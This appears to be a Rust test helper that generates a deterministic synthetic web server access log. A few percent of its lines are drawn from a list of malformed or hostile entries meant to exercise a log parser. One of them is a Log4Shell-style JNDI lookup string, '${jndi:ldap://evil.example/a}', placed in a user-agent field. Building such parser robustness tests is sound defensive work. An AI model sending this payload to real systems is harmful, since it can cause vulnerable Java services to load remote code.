//! A realistic access log, the same on every run: what browsers, bots and scripts ask for, a few percent of hostile
//! lines.

use std::fmt::Write;

#[path = "../support/traffic.rs"]
mod traffic;

use traffic::{AGENTS, PATHS, REFERERS, Random};

const HOSTILE: [&str; 6] = [
    r#"203.0.113.9 - - [TIME] "\x16\x03\x01\x02\x00\x01\x00\x01\xFC\x03\x03" 400 157 "-" "-""#,
    r#"203.0.113.9 - - [TIME] "" 400 0 "-" "-""#,
    r#"203.0.113.9 - mal\x22lory [TIME] "GET /p?q=\x22raw\x22 HTTP/1.1" 404 153 "back\x5Cslash" "caf\xC3\xA9/1.0 \x22x\x22""#,
    r#"2001:db8::53 - a] [b [TIME] "GET /a b c HTTP/1.1" 400 157 "" "${jndi:ldap://evil.example/a}""#,
    r#"203.0.113.9 - - [TIME] "stats" 400 157 "-" "-""#,
    r#"not a line of this log"#,
];

/// A log of so many lines.
pub(crate) fn log(lines: usize) -> Vec<u8> {
    let mut random = Random(0x9e37_79b9_7f4a_7c15);
    let mut out = String::with_capacity(lines * 240);
    let mut second = 0;
    for _ in 0..lines {
        // About 50 requests a second.
        second += usize::from(random.below(50) == 0);
        let time =
            format!("20/Nov/2026:{:02}:{:02}:{:02} +0100", second / 3600 % 24, second / 60 % 60, second % 60);
        if random.below(100) < 3 {
            let line = HOSTILE[random.below(HOSTILE.len())].replace("TIME", &time);
            let _ = writeln!(out, "{line}");
            continue;
        }
        match random.below(10) {
            0 => write!(out, "2001:db8:{:x}::{:x}", random.below(65_536), random.below(65_536)),
            _ => write!(
                out,
                "{}.{}.{}.{}",
                1 + random.below(223),
                random.below(256),
                random.below(256),
                random.below(256)
            ),
        }
        .unwrap();
        let user = if random.below(20) == 0 { "alice" } else { "-" };
        let method = ["GET", "GET", "GET", "GET", "GET", "GET", "POST", "HEAD"][random.below(8)];
        let path = PATHS[random.below(PATHS.len())];
        let protocol = ["HTTP/1.1", "HTTP/2.0", "HTTP/2.0"][random.below(3)];
        let status = [200, 200, 200, 200, 304, 302, 404, 502][random.below(8)];
        let digits = 1 + random.below(6) as u32;
        let bytes = random.below(10usize.pow(digits));
        let (referer, agent) = (REFERERS[random.below(REFERERS.len())], AGENTS[random.below(AGENTS.len())]);
        let _ = write!(out, " - {user} [{time}] \"{method} {path}");
        if path.ends_with('-') {
            let _ = write!(out, "{}.jpg", random.below(10_000));
        }
        let _ = writeln!(out, " {protocol}\" {status} {bytes} \"{referer}\" \"{agent}\"");
    }
    out.into_bytes()
}
